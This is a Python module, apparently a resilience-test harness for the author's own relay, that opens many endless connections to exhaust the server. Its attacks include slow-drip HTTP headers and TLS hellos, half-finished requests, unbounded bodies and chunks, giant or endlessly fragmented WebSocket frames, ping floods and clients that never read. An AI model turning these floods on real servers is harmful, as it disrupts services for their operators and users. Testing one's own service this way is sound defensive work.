"""What a stranger can do to a relay with sockets alone, and without ever finishing anything.

Each attack holds its connections until it is cancelled, opens new ones for those that were cut, and never
fails.
"""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

from keys.channel import hidden_path
from keys.primitives import random_bytes
from wire.descriptor import RelayEntry

REST_S = 0.2
APART_S = 0.002
"""Between the first connections of two: what the kernel drops for want of room never learns it."""
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
"""The first bytes of a TLS ClientHello that goes on for 512."""


@dataclass(frozen=True, slots=True)
class Target:
    """A relay on loopback, and its hidden path."""

    host: str
    port: int
    secure: bool
    path: str

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port, ssl=_any() if self.secure else None)

    async def connect_plain(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Without TLS, whatever the port expects."""
        return await asyncio.open_connection(self.host, self.port)


def target(entry: RelayEntry, url: str) -> Target:
    scheme, _, address = url.partition("://")
    host, _, port = address.rpartition(":")
    return Target(host, int(port), scheme == "https", hidden_path(entry.admission))


def _any() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


Writer = asyncio.StreamWriter
Act = Callable[[Target, Writer], Awaitable[None]]


async def many(count: int, act: Act, target: Target, *, plain: bool = False) -> None:
    """Have so many connections do the same, for ever."""
    await asyncio.gather(*(_one(act, target, number * APART_S, plain=plain) for number in range(count)))


async def _one(act: Act, target: Target, wait_s: float, *, plain: bool) -> None:
    await asyncio.sleep(wait_s)
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            _, writer = await (target.connect_plain() if plain else target.connect())
            try:
                await act(target, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(REST_S)


async def _drip(writer: Writer, start: bytes, drop: bytes) -> None:
    """Write the start, and then a little for ever."""
    writer.write(start)
    while True:
        await writer.drain()
        await asyncio.sleep(REST_S)
        writer.write(drop)


async def _pour(writer: Writer, start: bytes, flood: bytes) -> None:
    """Write the start, and then without end as fast as it is taken."""
    writer.write(start)
    while True:
        await writer.drain()
        await asyncio.sleep(0)  # drain lets nobody else work as long as everything is taken
        writer.write(flood)


async def slow_header(target: Target, writer: Writer) -> None:
    await _drip(writer, b"GET / HTTP/1.1\r\nHost: x\r\nX-A: ", b"a")


async def slow_hello(target: Target, writer: Writer) -> None:
    await _drip(writer, HELLO, b"\0")


async def silent(target: Target, writer: Writer) -> None:
    await asyncio.Event().wait()


async def half_hello(target: Target, writer: Writer) -> None:
    """Half of a handshake, and then nothing."""
    writer.write(HELLO)
    await asyncio.Event().wait()


async def half_header(target: Target, writer: Writer) -> None:
    """Half of a request, and then nothing."""
    writer.write(b"GET / HTTP/1.1\r\nHost:")
    await asyncio.Event().wait()


async def giant_header(target: Target, writer: Writer) -> None:
    await _pour(writer, b"GET / HTTP/1.1\r\nHost: x\r\nX-A: ", b"a" * 65536)


async def giant_body(target: Target, writer: Writer) -> None:
    head = f"POST {target.path} HTTP/1.1\r\nHost: x\r\nContent-Length: {1 << 40}\r\n\r\n"
    await _pour(writer, head.encode(), b"a" * 65536)


async def giant_chunks(target: Target, writer: Writer) -> None:
    head = f"POST {target.path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    await _pour(writer, head.encode(), b"10000\r\n" + b"a" * 65536 + b"\r\n")


def _upgrade(target: Target) -> bytes:
    return (
        f"GET {target.path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    ).encode()


async def giant_frame(target: Target, writer: Writer) -> None:
    """A message of 2^40 bytes, announced and begun."""
    head = b"\x82\xff" + (1 << 40).to_bytes(8, "big") + bytes(4)
    await _pour(writer, _upgrade(target) + head, b"a" * 65536)


async def endless_fragments(target: Target, writer: Writer) -> None:
    """A message whose next piece is never the last."""
    await _pour(
        writer, _upgrade(target) + b"\x02\x81" + bytes(4) + b"a", (b"\x00\x81" + bytes(4) + b"a") * 9000
    )


async def endless_pings(target: Target, writer: Writer) -> None:
    await _pour(writer, _upgrade(target), (b"\x89\xfd" + bytes(4) + b"a" * 125) * 500)


async def never_reads(target: Target, writer: Writer) -> None:
    """Ask for pages without end, and take none."""
    writer.transport.pause_reading()  # type: ignore[attr-defined]  # its transport reads too
    await _pour(writer, b"", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 1000)


async def replays(target: Target, writer: Writer) -> None:
    """Upgrade by the hidden path, send what is no first message, and begin again."""
    writer.write(_upgrade(target) + b"\x82\xfe\x10\x00" + bytes(4) + random_bytes(4096))
    await writer.drain()
    await asyncio.sleep(REST_S)
